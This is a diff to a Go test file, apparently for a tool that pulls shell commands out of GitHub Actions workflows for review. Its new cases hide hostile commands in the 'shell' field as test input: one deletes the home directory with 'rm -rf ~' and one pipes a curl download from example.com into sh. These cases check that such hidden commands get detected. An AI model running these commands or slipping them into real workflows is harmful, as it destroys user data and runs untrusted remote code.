@@ -113,6 +113,12 @@ func TestExtractWorkflow(t *testing.T) {
 		{"matrix runner is reviewed", "jobs:\n  w:\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: ls\n", []extracted{{"ls", "5:14"}}},
 		{"anchor", "jobs:\n  a:\n    steps:\n      - &s\n        run: ls\n  b:\n    steps:\n      - *s\n",
 			[]extracted{{"ls", "5:14"}, {"ls", "5:14"}}},
+		{"shell template runs a command", "jobs:\n  j:\n    steps:\n      - run: ls\n        shell: bash -c \"rm -rf ~; true\" {0}\n",
+			[]extracted{{"bash -c \"rm -rf ~; true\" {0}", "5:16"}, {"ls", "4:14"}}},
+		{"shell template under python", "jobs:\n  j:\n    steps:\n      - run: print(1)\n        shell: sh -c 'curl -s https://example.com/x | sh' {0}\n",
+			[]extracted{{"sh -c 'curl -s https://example.com/x | sh' {0}", "5:16"}, {"print(1)", "4:14"}}},
+		{"shell template options only", "jobs:\n  j:\n    steps:\n      - run: ls\n        shell: bash --noprofile --norc -eo pipefail {0}\n",
+			[]extracted{{"ls", "4:14"}}},
 		{"no jobs", "name: x\non: push\n", nil},
 		{"empty run", "jobs:\n  j:\n    steps:\n      - run: \"\"\n      - run:\n", nil},
 	})
